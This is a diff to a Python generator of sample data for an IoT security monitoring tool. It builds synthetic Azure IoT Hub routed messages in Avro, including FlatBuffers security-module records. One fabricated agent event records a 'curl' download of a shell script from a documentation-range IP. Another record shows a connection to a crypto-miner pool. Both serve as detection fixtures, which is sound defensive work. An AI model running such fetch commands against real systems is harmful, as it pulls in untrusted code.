@@ -5,7 +5,8 @@ Usage (from the project root, in the project's environment)::
     python sample_data/generate.py [--out sample_data] [--data-only] [--check]
 
 Writes the inputs (``hub-log.json``, ``hub-log-eventhub.json``, ``hub-events.jsonl``,
-``security-messages.jsonl``, ``board-1.capture``) and ``iotwatch.toml``, then runs the project's
+``security-messages.jsonl``, ``board-1.capture``; and ``routed/bench-hub-messages.avro``, replayed
+on its own) and ``iotwatch.toml``, then runs the project's
 own command line to write ``azure-groups.json`` (``iotwatch groups export``),
 ``expected-alerts.jsonl`` and ``expected-summary.txt`` (``iotwatch replay``). With
 ``--data-only`` the command line is not run; with ``--check`` nothing is written and the exit
@@ -16,6 +17,8 @@ bytes; README.md tells the story the data tells.
 from __future__ import annotations
 
 import argparse
+import io
+import ipaddress
 import os
 import random
 import subprocess
@@ -27,6 +30,8 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
+import fastavro
+import flatbuffers
 import orjson
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -945,6 +950,8 @@ CONFIG = """\
 lateness = "PT1M"            # a window is judged a minute after its end...
 horizon = "P1D"              # ...and amended by anything of the device that arrives within a day
 quiet = "PT10M"
+# The hub, as Azure names it: the ResourceId of `iotwatch export --format securityalert`.
+hub = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/bench-lab/providers/Microsoft.Devices/IotHubs/bench-hub"
 
 # The serial board, when the session runs live. Its console says what it sends to the hub, but
 # the hub side of its traffic is already in hub-events.jsonl: its console lines are shown and
@@ -1083,9 +1090,230 @@ allow = [
 severity = "High"
 """
 
+# --- routed: IoT Hub message routing to storage (Avro), with security messages ------------------
+
+# The record schema routing writes to a storage endpoint ("Query Avro data by using Azure Data
+# Lake Analytics", MicrosoftDocs/azure-docs articles/iot-hub/iot-hub-query-avro-data.md).
+ROUTING_SCHEMA = {
+    "type": "record",
+    "name": "Message",
+    "namespace": "Microsoft.Azure.Devices",
+    "fields": [
+        {"name": "EnqueuedTimeUtc", "type": "string"},
+        {"name": "Properties", "type": {"type": "map", "values": "string"}},
+        {"name": "SystemProperties", "type": {"type": "map", "values": "string"}},
+        {"name": "Body", "type": ["null", "bytes"]},
+    ],
+}
+SECURITY_INTERFACE = "urn:azureiot:Security:SecurityAgent:1"
+RTOS_BOARD = "bench-board-2"  # an MXChip AZ3166 with the Azure RTOS security module
+RTOS_ADDRESS = (10, 0, 0, 42)
+MINER_POOL = (203, 0, 113, 66)  # the pool bench-board-1's miner used (see the story)
+ROUTED_START = at(10, 40)
+# Avro's sync marker is random unless given: a fixed one keeps the file the same on every run.
+ROUTED_SYNC = bytes(range(0xA0, 0xB0))
+
+
+def routed_time(us: int) -> str:
+    """Routing's EnqueuedTimeUtc: seven fractional digits."""
+    return utc(us).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
+
+
+def routed(
+    t: int, device: str, body: bytes | None, props: dict[str, str], system: dict[str, str]
+) -> dict[str, Any]:
+    """One routed message as the storage endpoint writes it."""
+    return {
+        "EnqueuedTimeUtc": routed_time(t),
+        "Properties": props,
+        "SystemProperties": {
+            "connectionDeviceId": device,
+            "connectionAuthMethod": AUTH_X509 if device == RTOS_BOARD else AUTH_SAS,
+            "connectionDeviceGenerationId": "638680411234567890",
+            **system,
+            "enqueuedTime": routed_time(t),
+        },
+        "Body": body,
+    }
+
+
+def _ipv4_word(address: tuple[int, ...]) -> int:
+    """The uint32 the module stores for an IPv4 address: its bytes in network order, as the
+    little-endian board reads them from memory (docs/formats.md, Addresses)."""
+    return int.from_bytes(bytes(address), "little")
+
+
+def _ipv6_words(text: str) -> list[int]:
+    packed = ipaddress.IPv6Address(text).packed
+    return [int.from_bytes(packed[i : i + 4], "little") for i in range(0, 16, 4)]
+
+
+def rtos_security_message(rng: random.Random, t: int) -> bytes:
+    """An Azure RTOS security module message (FlatBuffers, schema 2.3), built with the
+    flatbuffers Builder and the project's flatc-generated code: the connections bench-board-2
+    saw in its last collection interval, its system information and a heartbeat."""
+    from engine.formats.rtos import security_message_generated as g
+
+    b = flatbuffers.Builder(1024)
+
+    def common(local_port: int, remote_port: int, protocol: int, sent: int, got: int) -> int:
+        g.NetworkActivityCommonStart(b)
+        g.NetworkActivityCommonAddLocalPort(b, local_port)
+        g.NetworkActivityCommonAddRemotePort(b, remote_port)
+        g.NetworkActivityCommonAddBytesIn(b, got)
+        g.NetworkActivityCommonAddBytesOut(b, sent)
+        g.NetworkActivityCommonAddProtocol(b, protocol)
+        return g.NetworkActivityCommonEnd(b)
+
+    def vector(start: Any, offsets: list[int]) -> int:
+        start(b, len(offsets))
+        for off in reversed(offsets):
+            b.PrependUOffsetTRelative(off)
+        return b.EndVector()
+
+    v4 = []
+    for remote, port, sent, got in (
+        (tuple(int(x) for x in HUB_ADDRESS.split(".")), 8883, 5120, 1480),  # the hub: MQTT/TLS
+        (MINER_POOL, 3333, 640, 212),  # the miner's pool: not on the allow-list
+    ):
+        com = common(rng.randint(49152, 65535), port, g.Protocol.TCP, sent, got)
+        g.NetworkActivityV4Start(b)
+        g.NetworkActivityV4AddAddresses(
+            b, g.CreateIPv4Addresses(b, _ipv4_word(RTOS_ADDRESS), _ipv4_word(remote))
+        )
+        g.NetworkActivityV4AddCommon(b, com)
+        v4.append(g.NetworkActivityV4End(b))
+    com = common(rng.randint(49152, 65535), 123, g.Protocol.UDP, 48, 48)  # the lab's NTP server
+    g.NetworkActivityV6Start(b)
+    g.NetworkActivityV6AddAddresses(
+        b, g.CreateIPv6Addresses(b, _ipv6_words("2001:db8:100::42"), _ipv6_words("2001:db8:100::1"))
+    )
+    g.NetworkActivityV6AddCommon(b, com)
+    v6 = [g.NetworkActivityV6End(b)]
+    ipv4, ipv6 = (
+        vector(g.NetworkActivityStartIpv4ActivityVector, v4),
+        vector(g.NetworkActivityStartIpv6ActivityVector, v6),
+    )
+    g.NetworkActivityStart(b)
+    g.NetworkActivityAddIpv4Activity(b, ipv4)
+    g.NetworkActivityAddIpv6Activity(b, ipv6)
+    network = g.NetworkActivityEnd(b)
+    os_info, kernel, hw = (b.CreateString(x) for x in ("Azure RTOS", "ThreadX 6.2.0", "AZ3166"))
+    g.SystemInformationStart(b)
+    g.SystemInformationAddOsInfo(b, os_info)
+    g.SystemInformationAddKernelInfo(b, kernel)
+    g.SystemInformationAddHwInfo(b, hw)
+    sysinfo = g.SystemInformationEnd(b)
+    g.HeartbeatStart(b)
+    heartbeat = g.HeartbeatEnd(b)
+    events = []
+    for kind, payload, ago in (
+        (g.Payload.NetworkActivity, network, 20),
+        (g.Payload.SystemInformation, sysinfo, 15),
+        (g.Payload.Heartbeat, heartbeat, 10),
+    ):
+        g.EventStart(b)
+        g.EventAddId(b, g.CreateUUID(b, list(uuid.UUID(int=rng.getrandbits(128), version=4).bytes)))
+        g.EventAddTime(b, t // US - ago)  # the board's clock: Unix seconds
+        g.EventAddCollectionInterval(b, 60)
+        g.EventAddPayloadType(b, kind)
+        g.EventAddPayload(b, payload)
+        events.append(g.EventEnd(b))
+    module_id = b.CreateString("bench-board-2-asc")
+    evs = vector(g.MessageStartEventsVector, events)
+    g.MessageStart(b)
+    g.MessageAddSecurityModuleId(b, module_id)
+    g.MessageAddSecurityModuleVersion(b, (3 << 24) | (5 << 16) | 4)  # 3.5.4
+    g.MessageAddEvents(b, evs)
+    b.Finish(g.MessageEnd(b))
+    return bytes(b.Output())
+
+
+def build_routed_messages(rng: random.Random) -> bytes:
+    """Ten minutes of bench-hub's messages as routing writes them to a storage endpoint (Avro):
+    bench-board-2 connects, has its twin updated and sends telemetry every minute and one Azure
+    RTOS FlatBuffers security message; lab-01's Linux agent sends one JSON security message."""
+    json_utf8 = {"contentType": "application/json", "contentEncoding": "utf-8"}
+    records: list[tuple[int, dict[str, Any]]] = []
+    # IoT Hub's own notifications ("Azure IoT Hub non-telemetry event schemas").
+    for t, source, schema, op, body in (
+        (
+            ROUTED_START + 2_113_000,
+            "deviceConnectionStateEvents",
+            "deviceConnectionStateNotification",
+            "deviceConnected",
+            {"sequenceNumber": "000000000000000001D941B7C6F2A10A0000000200000000000000000000001B"},
+        ),
+        (
+            ROUTED_START + 95_402_000,
+            "twinChangeEvents",
+            "twinChangeNotification",
+            "updateTwin",
+            {"version": 4, "properties": {"desired": {"telemetryInterval": 60, "$version": 3}}},
+        ),
+    ):
+        props = {
+            "hubName": "bench-hub",
+            "deviceId": RTOS_BOARD,
+            "opType": op,
+            "iothub-message-schema": schema,
+            "operationTimestamp": routed_time(t - 1_000),
+        }
+        system = {**json_utf8, "iothub-message-source": source, "correlationId": new_uuid(rng)}
+        rec = routed(t, RTOS_BOARD, dumps(body), props, system)
+        del rec["SystemProperties"]["connectionAuthMethod"]  # not a device's message
+        records.append((t, rec))
+    # Telemetry as the getting-started firmware sends it, once a minute.
+    for t in every(ROUTED_START + 30 * US, ROUTED_START + 10 * MINUTE, MINUTE):
+        t += rng.randrange(0, 900_000)
+        body = {
+            "temperature": round(rng.uniform(26.0, 29.0), 2),
+            "humidity": round(rng.uniform(38.0, 44.0), 2),
+            "pressure": round(rng.uniform(1008.0, 1012.0), 2),
+        }
+        records.append((t, routed(t, RTOS_BOARD, dumps(body), {}, dict(json_utf8))))
+    # The security module's message: properties mti and $.ifid, a binary body.
+    t = ROUTED_START + 5 * MINUTE + 12_345_000
+    props = {"mti": "2.3-1-0-0", "$.ifid": SECURITY_INTERFACE}
+    records.append((t, routed(t, RTOS_BOARD, rtos_security_message(rng, t), props, {})))
+    # lab-01's Linux agent: a JSON security message, the interface id as iothub-interface-id.
+    agent = Agent("lab-01", rng, "bare", "T", False, 1)
+    t = ROUTED_START + 6 * MINUTE + 40_000_000
+    events = [
+        agent.event(
+            "ProcessCreate",
+            "Triggered",
+            t - 30 * US,
+            [agent.process("/usr/bin/curl", "curl -s http://203.0.113.66/x.sh", "operator")],
+        ),
+        agent.event(
+            "Login", "Triggered", t - 40 * US, [agent.login("operator", "Success", JUMP_HOST)]
+        ),
+    ]
+    body = orjson.loads(agent.line(events))
+    del body["DeviceId"]  # the envelope is the routed message: its device is connectionDeviceId
+    props = {"iothub-interface-id": SECURITY_INTERFACE}
+    records.append((t, routed(t, "lab-01", dumps(body), props, dict(json_utf8))))
+    out = io.BytesIO()
+    fastavro.writer(
+        out,
+        fastavro.parse_schema(ROUTING_SCHEMA),
+        [rec for _, rec in sorted(records, key=lambda r: r[0])],
+        sync_marker=ROUTED_SYNC,
+    )
+    return out.getvalue()
+
+
+def routed_messages() -> bytes:
+    """The bytes of ``routed/bench-hub-messages.avro``."""
+    return build_routed_messages(random.Random(f"{SEED}:routed"))
+
+
 # The inputs live in their own folder so that ``iotwatch replay session/*`` takes them all;
 # the capture is recognised by its NUL bytes.
 SESSION = "session"
+# Replayed on its own, not with session/* (see README.md, "Routed messages").
+ROUTED = "routed/bench-hub-messages.avro"
 INPUTS = [
     f"{SESSION}/hub-log.json",
     f"{SESSION}/hub-log-eventhub.json",
@@ -1124,6 +1352,9 @@ def generate(out: Path, report: bool = True) -> None:
     # Replay takes a capture's mtime as the host's receive time: the end of the capture.
     end = (BOARD_START + BOARD_SECONDS * US) / US
     os.utime(board, (end, end))
+    routed = out / ROUTED
+    routed.parent.mkdir(parents=True, exist_ok=True)
+    write(routed, routed_messages(), report)
     write(out / "iotwatch.toml", CONFIG.encode(), report)
 
 
